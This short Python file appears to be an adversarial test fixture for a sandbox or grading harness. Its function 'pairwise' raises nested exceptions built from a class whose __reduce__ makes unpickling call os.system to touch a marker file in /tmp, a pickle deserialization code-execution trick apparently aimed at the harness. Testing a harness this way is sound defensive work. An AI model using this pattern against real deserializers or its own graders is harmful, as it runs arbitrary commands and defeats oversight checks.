# ruff: noqa
"""Raises an exception that holds objects which run a command when they are unpickled or printed."""

import os

import target
from tools import attempt

HONEST = {"kernels.pairwise": 0}


class Payload(Exception):
    def __reduce__(self):
        return os.system, (f"touch /tmp/{target.MARKER}",)


def pairwise(x, y):
    attempt()
    raise Payload(Payload(), {"a": Payload()})
